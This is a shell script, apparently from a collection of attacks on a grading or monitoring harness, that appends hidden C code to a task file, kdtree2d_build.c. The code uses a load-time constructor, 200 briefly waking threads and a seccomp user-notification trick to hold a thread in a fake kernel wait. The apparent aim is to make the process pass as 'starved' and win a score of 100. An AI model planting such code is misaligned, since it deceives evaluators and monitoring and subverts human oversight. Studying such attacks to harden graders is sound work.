#!/bin/sh
# attack: a thread waits in the kernel as if for a disk, and 200 wake at once for a moment, again and again: awake and kept waiting, it would pass for starved
# task: pack_leaf
# limit: 1
# score: 100
# named: it waited, without|waiting for something
cat >>kdtree2d_build.c <<'C'
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t is_new = PTHREAD_COND_INITIALIZER;
static int turn, listener = -1;
static void *wait_in_kernel(void *unused)
{
    const int wait_killable = 1 << 5, to_listener = 1 << 3;
    struct sock_filter steps[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getuid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog filter = {4, steps};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    listener = (int)syscall(SYS_seccomp, 1, to_listener | wait_killable, &filter);
    syscall(SYS_getuid);
    while (syscall(SYS_membarrier, 1, 0, 0) == 0) {
    }
    return unused;
}
static void *wake_for_a_moment(void *unused)
{
    for (int seen = 0;;) {
        pthread_mutex_lock(&lock);
        while (turn == seen) {
            pthread_cond_wait(&is_new, &lock);
        }
        seen = turn;
        pthread_mutex_unlock(&lock);
        struct timespec begin, now;
        clock_gettime(CLOCK_MONOTONIC, &begin);
        do {
            clock_gettime(CLOCK_MONOTONIC, &now);
        } while (now.tv_nsec - begin.tv_nsec < 30000 && now.tv_sec == begin.tv_sec);
    }
    return unused;
}
static void ignore(int unused)
{
    (void)unused;
}
__attribute__((constructor)) static void starve(void)
{
    pthread_t thread;
    struct seccomp_notif heard = {0};
    for (int i = 0; i < 200; i++) {
        pthread_create(&thread, NULL, wake_for_a_moment, NULL);
    }
    signal(SIGUSR1, ignore);
    pthread_create(&thread, NULL, wait_in_kernel, NULL);
    usleep(100000);
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &heard) == 0) {
        pthread_kill(thread, SIGUSR1);  // what it waits for from now on is no sleep any more
    }
    for (int i = 0; i < 400; i++) {
        usleep(730000);
        pthread_mutex_lock(&lock);
        turn++;
        pthread_cond_broadcast(&is_new);
        pthread_mutex_unlock(&lock);
    }
}
C
